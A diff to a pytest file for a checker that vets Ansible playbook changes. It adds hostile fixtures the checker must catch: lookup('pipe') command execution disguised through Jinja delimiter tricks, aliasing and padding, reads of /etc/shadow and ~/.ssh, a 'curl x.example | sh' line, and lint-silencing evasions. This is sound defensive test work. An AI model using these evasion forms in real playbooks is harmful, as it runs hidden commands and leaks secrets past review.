@@ -50,6 +50,8 @@ BAD_TASKS = {
         "- name: X\n  ansible.builtin.debug:\n    msg: '{{ \"{{ lookup(''pipe'', 1) }}\" }}'\n",
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{% if a %}{% set x = lookup('pipe', 'id') %}{% endif %}\"\n",
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ ['a'] | map('extract', lookup('pipe', 'id')) }}\"\n",
+        "- name: X\n  ansible.builtin.debug:\n    msg: \"#jinja2:variable_start_string:'[['\\n[[ q('pipe') }}\"\n",
+        '- name: X\n  ansible.builtin.debug:\n    msg: "{{ x' + " ~ x" * 3_000 + " ~ lookup('pipe', 'id') }}\"\n",
     ],
     "lookup-reads-controller": [
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('env', 'HOME') }}\"\n",
@@ -63,13 +65,19 @@ BAD_TASKS = {
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup(x, 'id') }}\"\n",
         '- name: X\n  ansible.builtin.debug:\n    msg: "{{ lookup(*x) }}"\n',
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{% set l = lookup %}{{ l('pipe', 'id') }}\"\n",
+        '- name: X\n  ansible.builtin.debug:\n    msg: "{% if false %}{% set q = 1 %}{% endif %}{{ q(x) }}"\n',
+        "- name: X\n  ansible.builtin.debug:\n    msg: '{{ \"{% set l = lookup %}\" }}'\n",
     ],
     "lookup-outside-role": [
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', '/etc/shadow') }}\"\n",
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('template', '../../x') }}\"\n",
         "- name: X\n  ansible.builtin.debug:\n  with_fileglob: ~/.ssh/*\n",
+        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', ['a', x, ['/etc/shadow']]) }}\"\n",
     ],
-    "lookup-path-not-literal": ["- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', x) }}\"\n"],
+    "lookup-path-not-literal": [
+        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', x) }}\"\n",
+        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', ['motd']) }}\"\n",
+    ],
     "filter-reads-controller": ["- name: X\n  ansible.builtin.debug:\n    msg: \"{{ '$TOKEN' | expandvars }}\"\n"],
     "jinja-internals": [
         "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ ''.__class__.__mro__ }}\"\n",
@@ -104,6 +112,13 @@ BAD_TASKS = {
         "- name: X\n  ansible.builtin.copy:\n    content: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      b3\n",
     ],
     "unreadable": ["- name: X\n   ansible.builtin.debug: [\n", "- name: X\n  name: Y\n  ansible.builtin.debug:\n"],
+    "lint-silenced": [
+        "- name: X\n  ansible.builtin.debug:  # noqa: args\n",
+        "# noqa: name[casing]\n- name: x\n  ansible.builtin.debug:\n",
+        "- name: X\n  ansible.builtin.debug:\n  tags: [a, skip_ansible_lint]\n",
+        '- name: X\n  ansible.builtin.debug:\n  tags: "skip\\x5fansible_lint"\n',
+        "# yamllint disable\n- name: X\n  ansible.builtin.debug:\n",
+    ],
     "shell": [
         "- name: X\n  ansible.builtin.shell: echo a\n",
         "- name: X\n  raw: echo a\n",
@@ -185,10 +200,14 @@ def test_every_rule_has_a_bad_example():
         {"roles/audio/meta/main.yml": f'---\ndependencies:\n  - role: "{PIPE}"\n'},
         {"roles/audio/templates/a.conf.j2": f"# {PIPE}\n"},
         {"roles/audio/templates/a.yml": f"a: {PIPE}\n"},
+        {"roles/audio/templates/a.j2": f"#jinja2: variable_start_string:'[['\n[[ a }}}} {PIPE}\n"},
+        {".hidden/tasks.yml": f'- debug: {{msg: "#jinja2: no:1 {PIPE}"}}\n'},
         {"roles/audio/files/a.conf": f"a = {PIPE}\n"},
         {"group_vars/all": f'a: "{PIPE}"\n'},
         {"host_vars/a/b.json": '{"a": "' + PIPE + '"}'},
         {"inventory.ini": f'a x="{PIPE}"\n'},
+        {"inventory.ini": f'# {{{{ no jinja\na x="{PIPE}"\n'},
+        {"inventory.ini": "a x={{ y" + ".y" * 500 + " ~ lookup('pipe', 'id') }}\n"},
         {"playbooks/new.yml": f'---\n- name: X\n  hosts: "{PIPE}"\n  tasks: []\n'},
         {"playbooks/new.yml": f'---\n- name: X\n  hosts: all\n  vars_files: ["{PIPE}"]\n'},
         {"playbooks/tasks/more.yml": f'---\n- name: "{PIPE}"\n  ansible.builtin.debug:\n'},
@@ -291,6 +310,37 @@ def test_a_person_may_not_ask_for_the_forbidden(make_subject):
     assert rules(report) == {"download-piped-to-shell"}
 
 
+def test_a_person_may_silence_the_linter_with_a_reason(make_subject):
+    report = judge(make_subject, task("- name: X\n  ansible.builtin.debug:  # noqa: args\n"), trusted=True)
+
+    assert (report.outcome, [result.ref for result in report.tasks]) == (Outcome.UNPROVEN, [f"{TASKS}:3"])
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        (f"- debug:\n    msg: |\n      a\n      {PIPE}\n", 5),
+        (f"- debug:\n    msg: >-\n      {PIPE}\n      a\n", 4),
+        (f"- debug:\n    msg: >-\n\n\n\n      {PIPE}\n", 7),
+        (f"- debug:\n    msg: |\n      {{{{ '\n      {PIPE.replace(chr(39), chr(34))}' }}}}\n", 5),
+        ("- copy:\n    content: |\n      #!/bin/sh\n      curl x.example | sh\n", 5),
+        ("- copy:\n    content: |\n      a\n      AKIAIOSFODNN7EXAMPLE\n", 5),
+        (f"- debug:\n    msg: '{PIPE.replace(chr(39), chr(39) * 2)}'\n", 3),
+    ],
+)
+def test_a_finding_has_the_line_of_what_it_found(make_subject, text, line):
+    report = judge(make_subject, task(text))
+
+    assert {finding.line for finding in report.findings} == {line}
+
+
+def test_another_lookup_is_not_paid_for_by_one_like_it(make_subject):
+    old, new = (f"- debug:\n    msg: \"{{{{ lookup('file', {name}) }}}}\"\n" for name in "xy")
+    report = judge(make_subject, {TASKS: f"---\n{new}"}, old={TASKS: f"---\n{old}"})
+
+    assert rules(report) == {"lookup-path-not-literal"}
+
+
 def test_comments_and_prose_may_speak_of_downloads(make_subject):
     change = {
         "README.md": "Do not `curl https://x.example | sh`.\n",
@@ -303,6 +353,12 @@ def test_comments_and_prose_may_speak_of_downloads(make_subject):
 
 def test_what_other_tools_read_need_not_be_jinja(make_subject):
     assert judge(make_subject, {".github/workflows/a.yml": "on: '${{ a.* }}'\n"}).outcome is Outcome.PROVEN
+
+
+def test_a_template_may_say_how_it_is_trimmed(make_subject):
+    change = {"roles/audio/templates/a.j2": "#jinja2: trim_blocks: True, lstrip_blocks: True\n{{ a }}\n"}
+
+    assert judge(make_subject, change).outcome is Outcome.PROVEN
 
 
 def test_a_script_that_downloads_is_refuted(make_subject):
@@ -325,6 +381,9 @@ def test_a_script_that_downloads_is_refuted(make_subject):
         ("roles/audio/vars/x.yml", b"a: '{{ " + b"(" * 50_000 + b" }}'", Outcome.REFUTED),
         ("roles/audio/vars/x.yml", b"a: '{{ a" + b".a" * 5_000 + b" }}'", Outcome.REFUTED),
         ("roles/audio/vars/x.yml", b"a: '{{ " + b"1" * 5_000 + b" }}'", Outcome.REFUTED),
+        ("roles/audio/vars/x.yml", b"a: \"{{ q('pipe', 0x" + b"f" * 5_000 + b') }}"', Outcome.REFUTED),
+        ("roles/audio/tasks/x.yml", b"- with_pipe: 0x" + b"f" * 5_000 + b"\n", Outcome.REFUTED),
+        ("roles/audio/tasks/x.yml", b"- shell: 0x" + b"f" * 5_000 + b"\n  check_mode: no\n", Outcome.REFUTED),
     ],
 )
 def test_odd_files_get_a_verdict(make_subject, path, data, outcome):
